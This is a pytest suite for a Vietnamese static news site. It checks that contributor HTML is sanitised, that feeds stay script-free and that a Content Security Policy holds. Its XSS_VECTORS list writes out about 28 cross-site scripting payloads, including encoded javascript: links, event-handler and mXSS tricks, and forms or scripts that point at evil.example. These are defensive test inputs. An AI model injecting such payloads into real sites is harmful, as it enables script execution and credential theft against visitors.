"""Contributed content cannot run script: nh3 sanitising (safe_html), the checker's report, feeds, CSP."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from lxml import etree

from conftest import article
from content_check import check_site
from safe_html import DEFAULT_CSP, HEADER_ONLY_DIRECTIVES, check_body, embed_allowed, markup_free_text, sanitize

# (name, Markdown/HTML written by a contributor). Each must come out unable to run script.
XSS_VECTORS = [
    ("script-mixed-case", "<ScRiPt>alert('x1')</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("javascript-colon-entity", '<a href="javascript&colon;alert(1)">x2</a>'),
    ("javascript-decimal-entity", '<a href="&#106;avascript:alert(1)">x3</a>'),
    ("javascript-hex-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x4</a>'),
    ("javascript-tab", '<a href="java\tscript:alert(1)">x5</a>'),
    ("markdown-link-javascript", "[x6](javascript:alert(1))"),
    ("data-url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x7</a>'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">'),
    ("svg-onload", "<svg onload=alert(1)><circle r=1 /></svg>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-entity-encoded", '<img src="x" o&#110;error="alert(1)">'),
    ("iframe-evil-host", '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("form", '<form action="https://evil.example/"><input name="p" type="password"><button formaction="javascript:alert(1)">Gửi</button></form>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="https://evil.example/x.swf">'),
    ("style-expression", '<p style="width: expression(alert(1)); background: url(javascript:alert(1))">x8</p>'),
    ("style-element", "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>"),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x9</summary></details>"),
    ("a-onmouseover-quotes", "<a href=\"/\" onmouseover='alert(1)'>x10</a>"),
    ("comment-breakout", "<!--<img src=\"--><img src=x onerror=alert(1)//\">-->"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("video-poster-js", '<video poster="javascript:alert(1)" src="x.mp4"></video>'),
]
ALLOWED_EMBEDS = [
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" '
    'frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; '
    'web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video"></iframe>',
    '<iframe src="https://www.facebook.com/plugins/video.php?height=314&href=https%3A%2F%2Fwww.facebook.com%2Fcdct%2Fvideos%2F1%2F'
    '&show_text=false&width=560&t=0" width="560" height="314" style="border:none;overflow:hidden" scrolling="no" '
    'frameborder="0" allowfullscreen="true" allow="autoplay; clipboard-write; encrypted-media; picture-in-picture; '
    'web-share"></iframe>',
]
URL_ATTRS = ("href", "src", "action", "formaction", "poster", "data", "srcset", "xlink:href", "background")


def unsafe_things(soup: BeautifulSoup) -> list[str]:
    """Everything in a parsed fragment or page that could run script or load a foreign frame."""
    found = []
    for el in soup.find_all(True):
        name = el.name.lower()
        is_code = name == "script" and (el.get("type") or "").lower() != "application/ld+json"
        if is_code and (not el.get("src") or re.match(r"^(?:[a-z]+:|//)", el["src"], re.I)):
            found.append(f"<script {el.attrs}>")  # inline, or from another host
        if name == "form" and str(el.get("action", "")).endswith("/tim-kiem/"):
            pass  # the theme's own search form (GET to the site's search page)
        elif name in ("object", "embed", "applet", "base", "form", "svg", "math", "frame", "frameset"):
            found.append(f"<{name}>")
        if name == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append("<meta refresh>")
        if name == "iframe" and not embed_allowed(el.get("src") or ""):
            found.append(f"<iframe src={el.get('src')!r}>")
        for attr, value in el.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on") or attr.lower() == "srcdoc":
                found.append(f"{name}[{attr}]")
            if attr.lower() in URL_ATTRS:
                # as a browser's URL parser reads it: tab/newline removed, C0 and spaces trimmed
                plain = re.sub(r"[\t\n\r]", "", value).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                                          "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"
                                                          "\x1b\x1c\x1d\x1e\x1f ").lower()
                if plain.startswith(("javascript:", "vbscript:", "data:")):
                    found.append(f"{name}[{attr}={value[:30]!r}]")
            if attr.lower() == "style" and re.search(r"expression|url\(|@import", value, re.I):
                found.append(f"{name}[style={value!r}]")
    return found


@pytest.mark.parametrize("name, vector", XSS_VECTORS, ids=[n for n, _ in XSS_VECTORS])
def test_vector_is_neutralised_by_sanitize(name, vector):
    from safe_html import render_markdown

    cleaned = sanitize(render_markdown(vector))
    assert unsafe_things(BeautifulSoup(cleaned, "lxml")) == []
    assert "alert(1)" not in re.sub(r"<[^>]*>", "", cleaned) or name in ("comment-breakout",)


@pytest.mark.parametrize("embed", ALLOWED_EMBEDS)
def test_allowed_embed_survives_sanitize(embed):
    soup = BeautifulSoup(sanitize(embed), "lxml")
    frame = soup.find("iframe")
    assert frame is not None and embed_allowed(frame["src"])
    assert not frame.has_attr("frameborder") and not frame.has_attr("style")


@pytest.mark.parametrize("src, allowed", [
    ("https://www.youtube.com/embed/abc", True),
    ("https://www.youtube-nocookie.com/embed/abc?start=10", True),
    ("https://www.facebook.com/plugins/video.php?href=x", True),
    ("https://WWW.YOUTUBE.COM/embed/abc", True),
    ("https://www.youtube.com.evil.example/embed/abc", False),
    ("https://evil.example/?https://www.youtube.com/embed/abc", False),
    ("https://www.youtube.com@evil.example/embed/abc", False),
    ("https://user@www.youtube.com/embed/abc", False),
    ("http://www.youtube.com/embed/abc", False),
    ("//www.youtube.com/embed/abc", False),
    ("https://youtube.com/embed/abc", False),
    ("https://www.youtube.com/watch?v=abc", False),
    ("https://www.facebook.com/plugins/like.php?href=x", False),
    ("https://www.youtube.com:8443/embed/abc", False),
    ("javascript:alert(1)//https://www.youtube.com/embed/", False),
])
def test_embed_host_is_exact(src, allowed):
    assert embed_allowed(src) is allowed


def test_plain_text_metadata_cannot_carry_tags():
    assert markup_free_text("Công đoàn & doanh nghiệp") == "Công đoàn & doanh nghiệp"
    assert markup_free_text('Tôi "yêu" công đoàn') == 'Tôi "yêu" công đoàn'
    assert markup_free_text("<img src=x onerror=alert(1)>Tin") == "Tin"
    # entities that |striptags would decode back into a tag lose their angle brackets
    assert "<" not in markup_free_text("&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;")


def test_check_body_names_what_is_removed_and_where():
    body = "Đoạn một.\n\nĐoạn hai.\n\n<img src=\"x.jpg\" onerror=\"alert(1)\">\n\n<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>\n"
    problems = check_body(body, "content/units/x/2024/a.md", first_line=7)
    assert len(problems) == 1
    problem = problems[0]
    assert problem.path == "content/units/x/2024/a.md" and problem.field == "nội dung"
    assert problem.line == 11  # the <img ... onerror> line
    assert "mã lệnh onerror= trong <img>" in problem.message
    assert "khung nhúng <iframe> từ www.youtube.com.evil.example" in problem.message
    assert "Cách sửa" in str(problem)


def test_clean_markdown_and_embeds_are_not_reported():
    body = "Chữ **đậm**, [liên kết](https://baochi.vn/a?b=1&c=2), ảnh ![Ảnh](anh.jpg).\n\n" \
           "| A | B |\n|:-:|--:|\n| 1 | 2 |\n\n" + "\n\n".join(ALLOWED_EMBEDS) + "\n\nChú thích[^1].\n\n[^1]: Nguồn.\n"
    assert check_body(body, "content/a.md") == []


# --- Real builds ---------------------------------------------------------------------------------

BODY_WITH_VECTORS = "Đoạn mở đầu an toàn.\n\n![Ảnh đoàn viên](anh.jpg)\n\n" + "\n\n".join(v for _, v in XSS_VECTORS) + \
    "\n\n" + "\n\n".join(ALLOWED_EMBEDS) + "\n"


@pytest.fixture
def vector_site(build_site):
    from PIL import Image
    import io

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(buffer, "JPEG")
    return build_site({
        "units/cd-thu-nghiem/2024/bai-doc-hai.md": article(title="Bài có mã độc", body=BODY_WITH_VECTORS),
        "units/cd-thu-nghiem/2024/anh.jpg": buffer.getvalue(),
        "units/cd-thu-nghiem/2024/tieu-de-doc.md": article(
            title="<img src=x onerror=alert(1)>Tiêu đề &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
            date="2024-05-02 08:00", body="Bài thường."),
        "pages/trang-doc.md": "---\ntitle: Trang thử\n---\n" + BODY_WITH_VECTORS.replace("![Ảnh đoàn viên](anh.jpg)", ""),
    })


def test_built_article_page_and_feeds_are_safe(vector_site):
    out = vector_site.output
    page = vector_site.html("don-vi/cd-thu-nghiem/2024/bai-doc-hai/")
    body = page.select_one("article") or page
    assert unsafe_things(page) == [], "unsafe markup in the built article page"
    frames = [f["src"] for f in body.find_all("iframe")]
    assert len(frames) == 3 and all(embed_allowed(s) for s in frames)
    assert {re.match(r"https://([^/]+)/", s).group(1) for s in frames} == {
        "www.youtube.com", "www.youtube-nocookie.com", "www.facebook.com"}
    # the photo beside the article ({static} link) still points at a file that was copied
    photo = next(img for img in body.find_all("img") if img.get("alt") == "Ảnh đoàn viên")
    target = (out / "don-vi/cd-thu-nghiem/2024/bai-doc-hai/" / photo["src"]).resolve()
    assert "{static}" not in photo["src"] and target.is_file()
    # the title carried tags: none of them survives anywhere on its page
    title_page = vector_site.html("don-vi/cd-thu-nghiem/2024/tieu-de-doc/")
    assert unsafe_things(title_page) == []
    assert "<script>" not in (out / "don-vi/cd-thu-nghiem/2024/tieu-de-doc/index.html").read_text(encoding="utf-8")
    assert unsafe_things(vector_site.html("trang-doc/")) == []
    for html_file in out.rglob("*.html"):
        assert unsafe_things(BeautifulSoup(html_file.read_text(encoding="utf-8"), "lxml")) == [], html_file

    feeds = [p for p in out.rglob("*.xml") if p.name != "sitemap.xml"]
    if not feeds:
        pytest.skip("no feeds written (press_feeds not installed)")
    carried = 0
    for feed in feeds:
        root = etree.parse(str(feed)).getroot()
        for el in root.iter():
            if el.text and "<" in el.text:  # HTML carried as text (description, content:encoded, atom content)
                carried += 1
                assert unsafe_things(BeautifulSoup(el.text, "lxml")) == [], f"{feed.name}: {el.tag}"
    assert carried, "the feeds carried no HTML content to check"


def test_checker_reports_removed_markup_with_file_and_line(vector_site):
    report = check_site(vector_site.content, plugins=vector_site.settings["PLUGINS"])  # safe_html's CONTENT_CHECKS
    found = [p for p in report.problems if p.field == "nội dung"]
    assert {p.path for p in found} == {"content/units/cd-thu-nghiem/2024/bai-doc-hai.md", "content/pages/trang-doc.md"}
    article_problem = next(p for p in found if p.path.endswith("bai-doc-hai.md"))
    assert article_problem.line == 10  # the first vector, after the opening paragraph and the photo
    for text in ("thẻ <script>", "mã lệnh onerror= trong <img>", "đường dẫn javascript: ở <a href>",
                 "thẻ <form>", "thẻ <object>", "thẻ <base>", "thẻ <meta>",
                 "khung nhúng <iframe> từ www.youtube.com.evil.example"):
        assert text in article_problem.message
    assert "youtube-nocookie" not in article_problem.message and "www.facebook.com" not in article_problem.message


# --- Content Security Policy ---------------------------------------------------------------------

def _meta_csp(path: Path) -> str | None:
    meta = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml").find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    return meta["content"] if meta else None


def test_every_page_carries_the_policy_and_headers_file_matches(publish_site):
    pages = list(publish_site.rglob("*.html"))
    assert pages
    # admin/ is the web editor (Decap CMS): its own page, without the site's policy (docs/web-editor.md).
    policies = {_meta_csp(p) for p in pages if "pagefind" not in p.parts and p.relative_to(publish_site).parts[0] != "admin"}
    assert policies == {DEFAULT_CSP}
    headers = (publish_site / "_headers").read_text(encoding="utf-8")
    assert re.search(r"^/\*$", headers, re.M)
    line = next(h for h in headers.splitlines() if h.strip().startswith("Content-Security-Policy:"))
    assert line.split(":", 1)[1].strip() == f"{DEFAULT_CSP}; {HEADER_ONLY_DIRECTIVES}"
    assert "'unsafe-inline'" not in re.search(r"script-src[^;]*", DEFAULT_CSP).group(0)


def test_sample_pages_have_no_inline_executable_script(publish_site):
    for path in publish_site.rglob("*.html"):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
        for script in soup.find_all("script"):
            assert script.has_attr("src") or script.get("type") == "application/ld+json", path


@pytest.mark.browser
def test_chromium_reports_no_csp_violation_on_sample_pages(sample_site, tmp_path):
    """Serve the sample site (relative URLs, same policy) over http; record every CSP violation."""

    from playwright.sync_api import sync_playwright

    from local_site import CHROMIUM, chromium, serve

    assert Path(CHROMIUM).exists(), "Chromium missing: ./dev test installs Debian's chromium"

    site = tmp_path / "site"
    shutil.copytree(sample_site, site)
    # A control page: the same policy must block an inline script, or the listener proves nothing.
    (site / "kiem-soat-csp.html").write_text(
        f'<!doctype html><html lang="vi"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
        f'content="{DEFAULT_CSP}"><title>x</title></head><body><script>document.title="chay"</script></body></html>',
        encoding="utf-8")
    article_page = next(p for p in sorted(site.glob("don-vi/*/*/*/index.html")))
    pages = ["", "don-vi/", "tim-kiem/", "bao-chi/", article_page.parent.relative_to(site).as_posix() + "/"]

    with serve(site) as base, sync_playwright() as p, chromium(p) as browser:
        page = browser.new_page()
        page.add_init_script("""window.__csp = [];
            document.addEventListener('securitypolicyviolation', e => window.__csp.push(
              e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));""")
        page.goto(base + "kiem-soat-csp.html")
        page.wait_for_load_state("load")
        assert page.evaluate("window.__csp"), "the control page's inline script was not reported"
        assert page.title() == "x"
        violations = {}
        for rel in pages:
            console = []
            page.on("console", lambda m, c=console: c.append(m.text) if "Content Security Policy" in m.text else None)
            page.goto(base + rel)
            page.wait_for_load_state("load")
            page.wait_for_timeout(150)
            found = page.evaluate("window.__csp") + console
            if found:
                violations[rel] = found
    assert violations == {}
